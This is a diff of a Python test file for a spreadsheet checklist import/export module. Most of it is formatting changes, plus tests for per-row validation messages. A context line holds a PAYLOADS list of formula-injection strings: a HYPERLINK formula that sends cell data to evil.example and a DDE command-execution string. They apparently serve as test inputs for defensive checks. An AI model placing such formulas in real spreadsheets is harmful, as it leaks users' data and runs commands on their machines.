@@ -7,8 +7,12 @@ from datetime import date, datetime
 import openpyxl
 import pytest
 
-from exports.checklist_import import apply_plan, plan_checklist_import, read_supplier_list, \
-    undo_applied
+from exports.checklist_import import (
+    apply_plan,
+    plan_checklist_import,
+    read_supplier_list,
+    undo_applied,
+)
 from exports.checklists import export_checklists, export_inventory
 from exports.xlsx_read import UnreadableWorkbook
 from models import checklists, materials
@@ -19,7 +23,7 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+cmd|' /C calc
 
 
 @pytest.fixture
-def filled(shop):
+def filled(shop):  # noqa: F811
     ws, ids = shop
     base = materials.item_from_material(ws.conn, ids["stand"])
     made, _ = checklists.add_items(ws.conn, ids["salon_list"], [
@@ -146,7 +150,8 @@ def test_bad_values_are_reported_by_row_and_column_and_nothing_written(filled, t
     edit_and_save(path, edit)
     plan = plan_checklist_import(ws.conn, path, TODAY)
     assert [str(p).split(" (sheet")[0] for p in plan.problems] == [
-        "row 2, column 状态: '丢了' is not one of 待准备 / 已下单 / 已到货 / 已打包 / 已使用 / 已归还",
+        "row 2, column 状态: '丢了' is not one of "
+        "待准备 / 已下单 / 已到货 / 已打包 / 已使用 / 已归还",
         "row 3, column 数量: cannot be negative",
         "row 4, column 截止日期: '下周' is not a date like 2026-12-05",
         "row 5, column ID: no item 99999 in checklist '沙龙物料'"]
